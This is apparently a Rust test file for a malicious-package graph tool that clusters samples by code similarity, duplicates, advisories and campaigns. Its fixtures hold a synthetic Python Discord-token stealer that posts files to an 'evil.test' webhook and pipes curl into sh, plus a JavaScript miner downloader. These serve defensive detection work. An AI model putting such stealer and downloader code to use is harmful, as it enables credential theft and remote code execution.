//! End-to-end tests of the graph build on small synthetic inputs.

use malgraph_core::{Ecosystem, Iocs, PackageFile, PackageId, PackageName, ScanReport};
use malgraph_graph::*;

fn file(path: &str, code: &str) -> PackageFile {
    PackageFile {
        path: path.into(),
        data: code.as_bytes().to_vec(),
    }
}

/// A stealer body; `n` renames identifiers and strings like a re-released copy would.
fn stealer(n: usize) -> String {
    format!(
        r#"
import os, base64, requests
def grab_{n}(path_{n}):
    data_{n} = []
    for root_{n}, dirs, files in os.walk(os.path.expanduser(path_{n})):
        for f_{n} in files:
            if f_{n}.endswith(".ldb") or f_{n}.endswith(".log"):
                with open(os.path.join(root_{n}, f_{n}), "rb") as fh:
                    data_{n}.append(base64.b64encode(fh.read()).decode())
    return data_{n}
class Sender{n}:
    def __init__(self, url_{n}):
        self.url_{n} = url_{n}
    def send(self, payload_{n}):
        requests.post(self.url_{n}, json={{"content": payload_{n}, "id": {n}}})
tokens_{n} = grab_{n}("~/.config/discord/Local Storage/leveldb")
Sender{n}("https://evil{n}.test/hook").send(tokens_{n})
os.system("curl -s http://evil{n}.test/p{n} | sh")
"#
    )
}

fn miner() -> String {
    r#"
const cp = require('child_process');
const https = require('https');
function fetchMiner(u, cb) { https.get(u, (res) => { let b = ''; res.on('data', (c) => b += c); res.on('end', () => cb(b)); }); }
fetchMiner('https://pool.test/xmrig', (bin) => {
  require('fs').writeFileSync('/tmp/.x', bin, { mode: 0o755 });
  cp.exec('/tmp/.x --donate-level 1 -o pool.test:3333 -u wallet', () => {});
  setInterval(() => { process.stdout.write('.'); }, 1000);
});
"#
    .into()
}

fn sample(
    name: &str,
    version: &str,
    sha: &str,
    code: &str,
    deps: &[&str],
    imports: &[&str],
) -> SampleEntry {
    let pid = PackageId::new(Ecosystem::PyPI, name, Some(version));
    let fp = fingerprint(&[file(&format!("{name}-{version}/{name}/__init__.py"), code)]);
    let mut scan = ScanReport::error("x", Some(sha.into()), "");
    scan.error = None;
    scan.metadata.dependencies = deps.iter().map(|s| s.to_string()).collect();
    scan.metadata.imports = imports.iter().map(|s| s.to_string()).collect();
    SampleEntry {
        sha256: sha.into(),
        package: pid,
        source: Some("test".into()),
        date: Some("2023-01-01".into()),
        fingerprint: Some(fp),
        focused: None,
        scan: Some(scan),
    }
}

fn edges_between<'a>(g: &'a Graph, a: &str, b: &str, kind: EdgeKind) -> Vec<&'a Edge> {
    g.edges
        .iter()
        .filter(|e| {
            e.kind == kind && ((e.source == a && e.target == b) || (e.source == b && e.target == a))
        })
        .collect()
}

fn base_input() -> GraphInput {
    // a/b: renamed near-copies (one extra line in b); c: unrelated JS; d: same bytes as a
    let mut b_code = stealer(2);
    b_code.push_str("print('done')\n");
    let mut input = GraphInput::default();
    input.samples.push(sample(
        "alpha",
        "1.0",
        "aa",
        &stealer(1),
        &[],
        &["os", "sys", "base64"],
    ));
    input
        .samples
        .push(sample("bravo", "0.1", "bb", &b_code, &[], &[]));
    input
        .samples
        .push(sample("charlie", "2.0", "cc", &miner(), &[], &[]));
    input
        .samples
        .push(sample("delta", "9.9", "aa", &stealer(1), &[], &[]));
    input
}

#[test]
fn renamed_copies_are_similar_unrelated_code_is_not() {
    let g = build(&base_input(), &BuildOptions::default());
    let sim = edges_between(
        &g,
        "ver:pypi/alpha@1.0",
        "ver:pypi/bravo@0.1",
        EdgeKind::Similar,
    );
    let dup = edges_between(
        &g,
        "ver:pypi/alpha@1.0",
        "ver:pypi/bravo@0.1",
        EdgeKind::Duplicated,
    );
    assert_eq!(sim.len() + dup.len(), 1, "{:#?}", g.edges);
    if let Some(e) = sim.first() {
        assert!(e.score.unwrap_or(0.0) >= DEFAULT_SIMILARITY);
    }
    for other in ["ver:pypi/alpha@1.0", "ver:pypi/bravo@0.1"] {
        assert!(edges_between(&g, other, "ver:pypi/charlie@2.0", EdgeKind::Similar).is_empty());
    }
}

#[test]
fn same_sha256_under_two_names_is_duplicated() {
    let g = build(&base_input(), &BuildOptions::default());
    let d = edges_between(
        &g,
        "ver:pypi/alpha@1.0",
        "ver:pypi/delta@9.9",
        EdgeKind::Duplicated,
    );
    assert_eq!(d.len(), 1);
    assert!(d[0].why.contains("sha256"));
    // both are artifacts of one artifact node
    assert_eq!(
        g.edges
            .iter()
            .filter(|e| e.kind == EdgeKind::ArtifactOf && e.source == "sha256:aa")
            .count(),
        2
    );
}

#[test]
fn stdlib_and_popular_imports_never_make_dependency_edges() {
    let mut input = base_input();
    // names that are "known malicious" in the input but are stdlib / ubiquitous
    for n in ["os", "sys", "requests", "setuptools"] {
        input.packages.push(PackageEntry {
            id: PackageId::new(Ecosystem::PyPI, n, None),
            source: "list".into(),
            first_reported: None,
            withdrawn: false,
        });
    }
    input.samples.push(sample(
        "echo",
        "1",
        "ee",
        "import os",
        &["requests", "setuptools", "alpha", "unknown-pkg"],
        &["os", "sys", "bravo", "echo_helpers"],
    ));
    let g = build(&input, &BuildOptions::default());
    let deps: Vec<(&str, &str)> = g
        .edges
        .iter()
        .filter(|e| e.kind == EdgeKind::Dependency)
        .map(|e| (e.source.as_str(), e.target.as_str()))
        .collect();
    assert_eq!(
        deps,
        vec![
            ("ver:pypi/echo@1", "pkg:pypi/alpha"),
            ("ver:pypi/echo@1", "pkg:pypi/bravo")
        ]
    );
}

#[test]
fn reports_and_indicators_join_campaigns_without_cliques() {
    let mut input = base_input();
    input.reports.push(ReportEntry {
        location: "https://blog.test/campaign".into(),
        title: Some("Campaign X".into()),
        published: Some("2023-02-01".into()),
        packages: vec![
            PackageId::new(Ecosystem::PyPI, "charlie", None),
            PackageId::new(Ecosystem::PyPI, "foxtrot", None),
            PackageId::new(Ecosystem::PyPI, "golf", None),
        ],
        iocs: Iocs::default(),
    });
    let mut iocs = Iocs::default();
    iocs.webhooks
        .insert("https://discord.com/api/webhooks/1/abc".into());
    iocs.domains.insert("github.com".into());
    for n in ["hotel", "india"] {
        input.advisories.push(AdvisoryEntry {
            id: format!("MAL-{n}"),
            package: PackageName::new(Ecosystem::PyPI, n),
            versions: vec![],
            source: "osv".into(),
            published: Some("2023-03-01".into()),
            references: vec!["https://security.snyk.io/vuln/X".into()],
            summary: None,
            iocs: iocs.clone(),
            withdrawn: false,
        });
    }
    let g = build(&input, &BuildOptions::default());
    // report: 3 edges, no package-package co-existing edges
    let co: Vec<&Edge> = g
        .edges
        .iter()
        .filter(|e| e.kind == EdgeKind::CoExisting)
        .collect();
    assert_eq!(co.len(), 3);
    assert!(co.iter().all(|e| e.source.starts_with("report:")));
    // shared webhook yes, benign domain no, snyk reference no report node
    assert!(
        g.node("ioc:webhook:https://discord.com/api/webhooks/1/abc")
            .is_some()
    );
    assert!(g.node("ioc:domain:github.com").is_none());
    assert!(g.node("report:https://security.snyk.io/vuln/X").is_none());
    let names: Vec<Vec<String>> = g.campaigns.iter().map(|c| c.names.clone()).collect();
    assert!(names.contains(&vec![
        "pypi/charlie".to_string(),
        "pypi/foxtrot".into(),
        "pypi/golf".into()
    ]));
    assert!(names.contains(&vec!["pypi/hotel".to_string(), "pypi/india".into()]));
    assert!(names.contains(&vec![
        "pypi/alpha".to_string(),
        "pypi/bravo".into(),
        "pypi/delta".into()
    ]));
    let text = render_campaigns_text(&g);
    assert!(text.contains("3 campaigns"), "{text}");
}

#[test]
fn show_explains_edges() {
    let g = build(&base_input(), &BuildOptions::default());
    let id = PackageId::parse_ref("pypi/alpha").unwrap();
    let n = neighbours(&g, &id);
    assert!(
        n.iter()
            .any(|e| e.kind == EdgeKind::Duplicated && e.neighbour == "ver:pypi/delta@9.9")
    );
    let text = render_show_text(&g, &id, &n);
    assert!(text.contains("same sha256"), "{text}");
    let none = PackageId::parse_ref("pypi/zulu").unwrap();
    assert!(render_show_text(&g, &none, &neighbours(&g, &none)).contains("not in the graph"));
}

fn advisory(id: &str, name: &str, versions: &[&str], source: &str, date: &str) -> AdvisoryEntry {
    AdvisoryEntry {
        id: id.into(),
        package: PackageName::new(Ecosystem::PyPI, name),
        versions: versions.iter().map(|v| v.to_string()).collect(),
        source: source.into(),
        published: Some(date.into()),
        references: vec![],
        summary: None,
        iocs: Iocs::default(),
        withdrawn: false,
    }
}

fn name_entry(name: &str, source: &str) -> PackageEntry {
    PackageEntry {
        id: PackageId::new(Ecosystem::PyPI, name, None),
        source: source.into(),
        first_reported: None,
        withdrawn: false,
    }
}

/// kilo@1 is reported by three sources (a sample, two advisories); lima@1 and mike@2 by the
/// same two sources each, and by nothing else; november only by one; oscar as a whole by
/// two name lists.
fn multi_source_input() -> GraphInput {
    let mut input = GraphInput::default();
    let mut s = sample("kilo", "1", "k1", &stealer(3), &[], &[]);
    s.source = Some("corpus".into());
    s.date = Some("2023-03-01".into());
    input.samples.push(s);
    input
        .advisories
        .push(advisory("MAL-1", "kilo", &["1"], "ossf", "2023-01-05"));
    input
        .advisories
        .push(advisory("LW-1", "kilo", &["1"], "leitwacht", "2023-02-01"));
    for (n, v) in [("lima", "1"), ("mike", "2")] {
        input
            .advisories
            .push(advisory(&format!("MAL-{n}"), n, &[v], "ossf", "2023-01-01"));
        input.advisories.push(advisory(
            &format!("LW-{n}"),
            n,
            &[v],
            "leitwacht",
            "2023-01-01",
        ));
    }
    input
        .advisories
        .push(advisory("MAL-n", "november", &["1"], "ossf", "2023-01-01"));
    input.packages.push(name_entry("oscar", "maloss"));
    input.packages.push(name_entry("oscar", "backstabbers"));
    input
}

#[test]
fn same_version_from_several_sources_is_duplicated_without_cliques() {
    let g = build(&multi_source_input(), &BuildOptions::default());
    let dup_from = |id: &str| -> Vec<&Edge> {
        g.edges
            .iter()
            .filter(|e| e.kind == EdgeKind::Duplicated && e.source == id)
            .collect()
    };
    // three sources: one edge per source but the first (ossf, earliest)
    let k = dup_from("ver:pypi/kilo@1");
    let targets: Vec<&str> = k.iter().map(|e| e.target.as_str()).collect();
    assert_eq!(targets, vec!["src:corpus", "src:leitwacht"], "{k:#?}");
    for e in &k {
        assert!(
            e.why.contains("first reported by ossf (2023-01-05)"),
            "{}",
            e.why
        );
        assert!(
            e.why.contains("3 sources: corpus, leitwacht, ossf"),
            "{}",
            e.why
        );
    }
    assert!(k[1].why.contains("also reported by leitwacht (2023-02-01)"));
    // same date: the first is the first by name
    let l = dup_from("ver:pypi/lima@1");
    assert_eq!(l.len(), 1);
    assert_eq!(l[0].target, "src:ossf");
    assert!(l[0].why.contains("first reported by leitwacht"));
    // one source: no duplicated edge; the reported-by edges stay
    assert!(dup_from("ver:pypi/november@1").is_empty());
    assert!(dup_from("pkg:pypi/november").is_empty());
    assert_eq!(
        g.edges
            .iter()
            .filter(|e| e.kind == EdgeKind::ReportedBy && e.source == "ver:pypi/kilo@1")
            .count(),
        3
    );
    // a package reported as a whole by two name lists
    let o = dup_from("pkg:pypi/oscar");
    assert_eq!(o.len(), 1);
    assert_eq!(o[0].target, "src:maloss");
    // versions of a package reported with versions are not duplicated at the package level
    assert!(dup_from("pkg:pypi/kilo").is_empty());
    // no source-source or package-package edges, and sources never join campaigns
    assert!(
        g.edges
            .iter()
            .filter(|e| e.kind == EdgeKind::Duplicated)
            .all(|e| !e.source.starts_with("src:"))
    );
    assert!(
        g.campaigns.is_empty(),
        "records sharing sources are not a campaign: {:#?}",
        g.campaigns
    );
    // show explains it
    let id = PackageId::parse_ref("pypi/kilo@1").unwrap();
    let n = neighbours(&g, &id);
    assert!(n.iter().any(|e| e.kind == EdgeKind::Duplicated
        && e.neighbour == "src:leitwacht"
        && e.neighbour_kind == NodeKind::Source));
    let text = render_show_text(&g, &id, &n);
    assert!(
        text.contains(
            "[duplicated] leitwacht (source): duplicate report: also reported by leitwacht"
        ),
        "{text}"
    );
}

#[test]
fn exports_carry_duplicated_by_sources() {
    let input = multi_source_input();
    let mut shuffled = input.clone();
    shuffled.advisories.reverse();
    shuffled.packages.reverse();
    let g = build(&input, &BuildOptions::default());
    let g2 = build(&shuffled, &BuildOptions::default());
    let json = to_node_link_json(&g);
    assert_eq!(json, to_node_link_json(&g2));
    assert_eq!(to_graphml(&g), to_graphml(&g2));
    let doc: serde_json::Value = serde_json::from_str(&json).unwrap();
    let links = doc["links"].as_array().unwrap();
    let dup: Vec<&serde_json::Value> = links
        .iter()
        .filter(|l| l["kind"] == "duplicated" && l["target"] == "src:leitwacht")
        .collect();
    assert_eq!(dup.len(), 1, "{dup:?}");
    assert_eq!(dup[0]["source"], "ver:pypi/kilo@1");
    assert!(dup[0]["why"].as_str().unwrap().contains("3 sources"));
    let gml = to_graphml(&g);
    assert!(gml.contains(
        "source=\"ver:pypi/kilo@1\" target=\"src:leitwacht\"><data key=\"e_kind\">duplicated</data>"
    ));
    let files = to_neo4j(&g).unwrap();
    let (_, rels) = files
        .iter()
        .find(|(n, _)| n == "rels_duplicated.csv")
        .expect("rels_duplicated.csv");
    let rels = String::from_utf8(rels.clone()).unwrap();
    assert!(rels.contains("ver:pypi/kilo@1,src:corpus,"), "{rels}");
    assert!(rels.contains("pkg:pypi/oscar,src:maloss,"), "{rels}");
    assert_eq!(to_neo4j(&g2).unwrap(), files);
}

#[test]
fn builds_and_exports_are_deterministic_and_order_independent() {
    let input = synthetic_input(400, 7);
    let mut shuffled = input.clone();
    shuffled.samples.reverse();
    shuffled.advisories.reverse();
    let a = build(&input, &BuildOptions::default());
    let b = build(&shuffled, &BuildOptions::default());
    assert_eq!(to_node_link_json(&a), to_node_link_json(&b));
    assert_eq!(to_graphml(&a), to_graphml(&b));
    let na = to_neo4j(&a).unwrap();
    assert_eq!(na, to_neo4j(&b).unwrap());
    assert!(na.iter().any(|(n, _)| n == "import.cypher"));
    assert!(a.stats.edges.get("similar").copied().unwrap_or(0) > 0);
}

#[test]
fn synthetic_families_become_campaigns() {
    let input = synthetic_input(2000, 3);
    let g = build(&input, &BuildOptions::default());
    // every similar edge joins members of one synthetic family (syn-FAM-i)
    let fam = |id: &str| id.split('-').nth(1).map(str::to_string);
    let sims: Vec<&Edge> = g
        .edges
        .iter()
        .filter(|e| e.kind == EdgeKind::Similar)
        .collect();
    assert!(!sims.is_empty());
    let same = sims
        .iter()
        .filter(|e| fam(&e.source) == fam(&e.target))
        .count();
    assert_eq!(same, sims.len());
    assert!(g.stats.names_in_campaigns * 10 >= g.stats.names_total * 6);
    assert!(g.diversity.code_clusters < g.diversity.packages_with_code);
}

fn python_with_networkx() -> Option<&'static str> {
    let ok = std::process::Command::new("python3")
        .args(["-c", "import networkx"])
        .output()
        .is_ok_and(|o| o.status.success());
    ok.then_some("python3")
}

#[test]
fn networkx_loads_json_and_graphml() {
    let Some(py) = python_with_networkx() else {
        eprintln!("skipped: python3 with networkx not available");
        return;
    };
    let g = build(&synthetic_input(300, 11), &BuildOptions::default());
    // each synthetic version has a sample and an advisory from two sources
    assert!(
        g.edges
            .iter()
            .filter(|e| e.kind == EdgeKind::Duplicated && e.target.starts_with("src:"))
            .count()
            >= 250
    );
    let dir = tempfile::tempdir().unwrap();
    let j = dir.path().join("g.json");
    let x = dir.path().join("g.graphml");
    std::fs::write(&j, to_node_link_json(&g)).unwrap();
    std::fs::write(&x, to_graphml(&g)).unwrap();
    let script = format!(
        r#"
import json, networkx as nx
d = json.load(open({j:?}))
g = nx.node_link_graph(d, edges="links")
h = nx.read_graphml({x:?})
assert g.number_of_nodes() == {n} == h.number_of_nodes(), (g.number_of_nodes(), h.number_of_nodes())
assert g.number_of_edges() == {e} == h.number_of_edges(), (g.number_of_edges(), h.number_of_edges())
v = [n for n, a in g.nodes(data=True) if a["kind"] == "package-version"][0]
a = g.nodes[v]
assert a["ecosystem"] and a["name"] and a["version"], a
dup = [(u, w) for u, w, k in g.edges(data="kind") if k == "duplicated" and g.nodes[w]["kind"] == "source"]
assert len(dup) == {dup_src}, len(dup)
assert all(g.nodes[u]["kind"] == "package-version" for u, w in dup)
print("ok")
"#,
        j = j.to_str().unwrap(),
        x = x.to_str().unwrap(),
        n = g.nodes.len(),
        e = g.edges.len(),
        dup_src = g
            .edges
            .iter()
            .filter(|e| e.kind == EdgeKind::Duplicated && e.target.starts_with("src:"))
            .count()
    );
    let out = std::process::Command::new(py)
        .args(["-c", &script])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A big synthetic library: `files` modules of varied, deterministic code (a small LCG picks
/// the statements, so the library has thousands of distinct normalised shingles).
fn big_library(top: &str, files: usize) -> Vec<PackageFile> {
    const PARTS: &[&str] = &[
        "os.path.join(a, b)",
        "sys.argv[1]",
        "json.loads(a)",
        "a + b",
        "a - b",
        "a * 2",
        "not a",
        "a or b",
        "a and b",
        "[a, b]",
        "{'k': a}",
        "(a,)",
        "a[1:2]",
        "a.get(b)",
        "re.compile(b)",
        "time.sleep(1)",
        "len(a)",
        "a if b else None",
        "hashlib.sha256(a)",
        "io.BytesIO(a)",
    ];
    let mut x: u64 = 7;
    let mut next = || {
        x = x
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (x >> 33) as usize
    };
    (0..files)
        .map(|i| {
            let mut code = String::new();
            for j in 0..60 {
                code.push_str(&format!("def f{i}_{j}(a, b):\n"));
                for _ in 0..4 {
                    let p1 = PARTS[next() % PARTS.len()];
                    let p2 = PARTS[next() % PARTS.len()];
                    let p3 = PARTS[next() % PARTS.len()];
                    code.push_str(&format!("    a = ({p1}, {p2}, {p3})\n"));
                }
                code.push_str("    return a\n");
            }
            file(&format!("{top}/requests/m{i}.py"), &code)
        })
        .collect()
}

fn vendoring_sample(name: &str, sha: &str, setup_py: &str) -> SampleEntry {
    let top = format!("{name}-1.0");
    let mut files = big_library(&top, 12);
    files.push(file(&format!("{top}/setup.py"), setup_py));
    SampleEntry {
        sha256: sha.into(),
        package: PackageId::new(Ecosystem::PyPI, name, Some("1.0")),
        source: Some("test".into()),
        date: Some("2023-01-01".into()),
        fingerprint: Some(fingerprint(&files)),
        focused: None,
        scan: None,
    }
}

/// Two renamed copies of one stealer and an unrelated miner (as `setup.py`), each packaged
/// by `make(name, sha, setup_py)` (which adds the same big library to all three).
fn three_with_library(
    names: [&str; 3],
    make: impl Fn(&str, &str, &str) -> SampleEntry,
) -> GraphInput {
    let mut stealer2 = stealer(2);
    stealer2.push_str("print('done')\n");
    let miner_py = miner().replace("const ", "").replace("=>", ":");
    let mut input = GraphInput::default();
    for (i, (name, code)) in names
        .iter()
        .zip([stealer(1), stealer2, miner_py])
        .enumerate()
    {
        input.samples.push(make(name, &format!("s{i}"), &code));
    }
    input
}

#[test]
fn vendored_popular_library_does_not_make_packages_similar() {
    // two renamed copies of one stealer, and an unrelated miner, all vendoring `requests`
    let input = three_with_library(["equests", "reqeusts", "requestz"], vendoring_sample);
    // without the vendored-library filter the library dominates: all three look alike
    let lib_only = fingerprint(&big_library("x-1.0", 12));
    assert!(lib_only.shingles.is_empty(), "vendored requests is skipped");
    let g = build(&input, &BuildOptions::default());
    let similar = |a: &str, b: &str| {
        !edges_between(&g, a, b, EdgeKind::Similar).is_empty()
            || !edges_between(&g, a, b, EdgeKind::Duplicated).is_empty()
    };
    assert!(similar("ver:pypi/equests@1.0", "ver:pypi/reqeusts@1.0"));
    assert!(!similar("ver:pypi/equests@1.0", "ver:pypi/requestz@1.0"));
    assert!(!similar("ver:pypi/reqeusts@1.0", "ver:pypi/requestz@1.0"));
    // a package named like the library keeps its own code
    let own = fingerprint(&big_library("requests-2.0", 12));
    assert!(!own.shingles.is_empty());
}

/// A package that ships the big library renamed to its own name, plus `setup.py`.
fn renamed_library_sample(name: &str, sha: &str, setup_py: &str) -> SampleEntry {
    let top = format!("{name}-1.0");
    let mut files: Vec<PackageFile> = big_library(&top, 12)
        .into_iter()
        .map(|f| PackageFile {
            path: f.path.replace("/requests/", &format!("/{name}/")),
            data: f.data,
        })
        .collect();
    files.push(file(&format!("{top}/setup.py"), setup_py));
    SampleEntry {
        fingerprint: Some(fingerprint(&files)),
        focused: None,
        ..vendoring_sample(name, sha, "")
    }
}

#[test]
fn known_benign_code_does_not_make_packages_similar() {
    let input = three_with_library(["alpha", "bravo", "charlie"], renamed_library_sample);
    let linked = |g: &Graph, a: &str, b: &str| {
        let (a, b) = (format!("ver:pypi/{a}@1.0"), format!("ver:pypi/{b}@1.0"));
        !edges_between(g, &a, &b, EdgeKind::Similar).is_empty()
            || !edges_between(g, &a, &b, EdgeKind::Duplicated).is_empty()
    };
    // renamed under the package's own name, the library is not recognised as vendored:
    // it dominates the shingles and joins the unrelated miner
    let g = build(&input, &BuildOptions::default());
    assert!(linked(&g, "alpha", "charlie"));
    // with the library known as benign code, only the packages' own code counts
    let benign = build::benign_reference([&fingerprint(&big_library("requests-2.0", 12))]);
    assert!(benign.len() > 1000);
    let opts = BuildOptions {
        known_benign: Some(std::sync::Arc::new(benign)),
        ..BuildOptions::default()
    };
    let g = build(&input, &opts);
    assert!(linked(&g, "alpha", "bravo"), "{:#?}", g.edges);
    assert!(!linked(&g, "alpha", "charlie"));
    assert!(!linked(&g, "bravo", "charlie"));
}

/// Like [`renamed_library_sample`], with the scanner's focus on `setup.py`.
fn focused_sample(name: &str, sha: &str, setup_py: &str) -> SampleEntry {
    let top = format!("{name}-1.0");
    let mut files: Vec<PackageFile> = big_library(&top, 12)
        .into_iter()
        .map(|f| PackageFile {
            path: f.path.replace("/requests/", &format!("/{name}/")),
            data: f.data,
        })
        .collect();
    files.push(file(&format!("{top}/setup.py"), setup_py));
    let focus = std::collections::BTreeSet::from([format!("{top}/setup.py")]);
    SampleEntry {
        focused: Some(fingerprint_focused(
            &files,
            FingerprintOptions::default(),
            &focus,
        )),
        ..renamed_library_sample(name, sha, setup_py)
    }
}

#[test]
fn flagged_files_decide_code_similarity() {
    let input = three_with_library(["alpha", "bravo", "charlie"], focused_sample);
    let linked = |g: &Graph, a: &str, b: &str| {
        let (a, b) = (format!("ver:pypi/{a}@1.0"), format!("ver:pypi/{b}@1.0"));
        !edges_between(g, &a, &b, EdgeKind::Similar).is_empty()
            || !edges_between(g, &a, &b, EdgeKind::Duplicated).is_empty()
    };
    // whole packages: the shared renamed library joins the unrelated miner
    let whole = BuildOptions {
        focus_flagged: false,
        ..BuildOptions::default()
    };
    let g = build(&input, &whole);
    assert!(linked(&g, "alpha", "charlie"));
    // by default only the flagged files count: the two stealers stay, the miner goes
    let g = build(&input, &BuildOptions::default());
    assert!(linked(&g, "alpha", "bravo"), "{:#?}", g.edges);
    assert!(!linked(&g, "alpha", "charlie"));
    assert!(!linked(&g, "bravo", "charlie"));
}
